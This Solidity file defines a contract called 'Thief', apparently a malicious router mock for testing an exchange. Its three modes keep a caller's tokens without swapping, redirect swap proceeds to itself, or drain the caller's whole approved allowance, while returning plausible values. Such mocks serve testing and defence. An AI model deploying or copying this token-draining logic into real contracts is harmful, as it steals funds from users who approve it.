// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exchange} from "./Exchange.sol";
import {IERC20} from "./Pool.sol";

interface IToken is IERC20 {
    function approve(address spender, uint256 value) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
}

/// A router that steals. It takes the exchange's own calls, and returns what an honest one would.
contract Thief {
    enum Trick {
        /// Pays nothing for what it takes.
        Keep,
        /// Swaps, and keeps what comes of it.
        Redirect,
        /// Swaps as it was asked to, and takes whatever else of the token it is allowed to.
        TakeMore
    }

    /// Stands for the native currency wherever a token's address is asked for.
    address private constant NATIVE = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;

    Exchange private immutable exchange;
    Trick private immutable trick;

    error NotPaid();

    constructor(Exchange exchange_, Trick trick_) {
        exchange = exchange_;
        trick = trick_;
    }

    receive() external payable {}

    function swap(
        address from,
        address to,
        uint256 amount,
        uint256 minimum,
        address recipient,
        uint256 deadline
    ) external payable returns (uint256) {
        if (from != NATIVE) _take(IToken(from), amount);
        if (trick == Trick.Keep) return minimum;
        if (from != NATIVE) IToken(from).approve(address(exchange), amount);
        address paid = trick == Trick.Redirect ? address(this) : recipient;
        return exchange.swap{value: msg.value}(from, to, amount, minimum, paid, deadline);
    }

    function _take(IToken token, uint256 amount) private {
        uint256 loot = amount;
        if (trick == Trick.TakeMore) {
            uint256 allowed = token.allowance(msg.sender, address(this));
            uint256 held = token.balanceOf(msg.sender);
            loot = allowed < held ? allowed : held;
        }
        if (!token.transferFrom(msg.sender, address(this), loot)) revert NotPaid();
    }
}
